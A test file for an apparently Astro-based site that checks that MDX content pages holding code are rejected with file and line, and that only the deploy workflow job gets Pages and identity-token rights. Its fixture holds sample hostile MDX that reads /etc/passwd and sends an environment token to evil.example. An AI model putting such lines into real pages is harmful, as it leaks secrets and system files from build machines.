/**
 * MDX is code: an .mdx page in content/ could run Node at build time and print what it finds
 * onto a public page, and content/ is reviewed as content. So MDX pages in content/ are plain
 * Markdown (plus any components on an allowlist, none today): the content check refuses
 * import/export, {expressions} and unknown components, naming file and line, and so does the
 * build. Only the deploy job may publish: the job that builds contributed content gets no
 * Pages or identity token rights.
 */
import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse as parseYaml } from 'yaml';
import { checkWith } from '../support/content-fixture.ts';
import { findMdxCode, MDX_COMPONENTS } from '../../src/lib/content-check/mdx-safety.ts';
import { refusingHostileFiles } from '../../src/loaders/yaml-file.ts';
import { listFiles } from '../../src/lib/files.ts';
import type { Loader } from 'astro/loaders';

const PROJECT = join(import.meta.dirname, '..', '..');
const LESSON = 'modules/first-module/first-lesson.mdx';

const HOSTILE_BODY = [
  "import { readFileSync } from 'node:fs';", // body line 1
  '',
  'The lesson.',
  '',
  'Your home folder is {process.env.HOME}.', // 5
  '',
  '<Secret file="/etc/passwd" />', // 7
  '',
  'export const leaked = readFileSync("/etc/hostname", "utf8");', // 9
  '',
  '<a href={`https://evil.example/?${process.env.TOKEN}`}>link</a>', // 11
  '',
  '{leaked}', // 13
].join('\n');

describe('the content check refuses code in MDX', () => {
  it('names the file and line of each import, export, expression and component', () => {
    const result = checkWith([{ file: LESSON, contents: (t) => t.replace('The lesson.', HOSTILE_BODY) }]);
    const file = `content/${LESSON}`;
    const ofFile = result.problems.filter((p) => p.file === file);
    const bodyStart =
      readFileSync(join(PROJECT, 'tests/fixtures/minimal-site/content', LESSON), 'utf8')
        .split('\n')
        .indexOf('The lesson.') + 1;
    const at = (n: number) => bodyStart + n - 1;
    const expectAt = (line: number, message: RegExp) =>
      expect(
        ofFile.find((p) => p.line === line && message.test(p.message)),
        `${message} at ${line} in ${JSON.stringify(ofFile, null, 1)}`,
      ).toBeDefined();
    expectAt(at(1), /import/);
    expectAt(at(5), /\{/);
    expectAt(at(7), /<Secret>/);
    expectAt(at(9), /export/);
    expectAt(at(11), /<a>|\{/);
    expectAt(at(13), /\{/);
    expect(result.ok).toBe(false);
  });

  it('explains MDX it cannot read, with the line', () => {
    const result = checkWith([{ file: LESSON, contents: (t) => t.replace('The lesson.', 'The lesson.\n\nAn open { bracket.\n') }]);
    const problem = result.problems.find((p) => p.file === `content/${LESSON}`);
    expect(problem?.message, JSON.stringify(result.problems)).toMatch(/cannot be read|\\</);
    expect(problem?.line).toBeGreaterThan(1);
  });

  it('every MDX page shipped, and in the fixture sites, is plain Markdown', () => {
    expect(MDX_COMPONENTS).toEqual([]);
    const files = ['content', 'tests/fixtures/site/content', 'tests/fixtures/minimal-site/content'].flatMap((folder) => listFiles(join(PROJECT, folder)).filter((f) => f.endsWith('.mdx')));
    expect(files.length).toBeGreaterThan(50);
    for (const file of files) expect(findMdxCode(readFileSync(file, 'utf8'), 1), file).toEqual([]);
  });
});

describe('the build refuses code in MDX too', () => {
  it("the MDX loader stops before Astro's compiler sees the page", async () => {
    const root = mkdtempSync(join(tmpdir(), 'mdx-loader-'));
    try {
      mkdirSync(join(root, 'content', 'guides'), { recursive: true });
      writeFileSync(join(root, 'content', 'guides', 'x.mdx'), `---\ntitle: X\n---\n\n${HOSTILE_BODY}\n`);
      let compiled = false;
      const inner: Loader = { name: 'inner', load: async () => void (compiled = true) };
      const loader = refusingHostileFiles('content/guides', inner);
      await expect(loader.load({ config: { root: pathToFileURL(`${root}/`) } } as never)).rejects.toThrow(/content\/guides\/x\.mdx:5: .*import/);
      expect(compiled).toBe(false);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('workflow permissions', () => {
  const workflow = (name: string) => parseYaml(readFileSync(join(PROJECT, '.github', 'workflows', name), 'utf8'));
  it('only the deploy job may write to Pages or get an identity token; the build job reads', () => {
    const deploy = workflow('deploy.yml');
    expect(deploy.permissions).toEqual({ contents: 'read' });
    expect(deploy.jobs.build.permissions ?? deploy.permissions).toEqual({ contents: 'read' });
    expect(deploy.jobs.deploy.permissions).toEqual({ pages: 'write', 'id-token': 'write' });
    expect(deploy.jobs.deploy.needs).toBe('build');
    expect(JSON.stringify(deploy.jobs.deploy.steps)).not.toMatch(/npm|checkout/);
  });
  it('the pull request check is read-only', () => {
    const check = workflow('check.yml');
    expect(check.permissions).toEqual({ contents: 'read' });
    for (const job of Object.values(check.jobs) as { permissions?: unknown }[]) expect(job.permissions).toBeUndefined();
  });
});
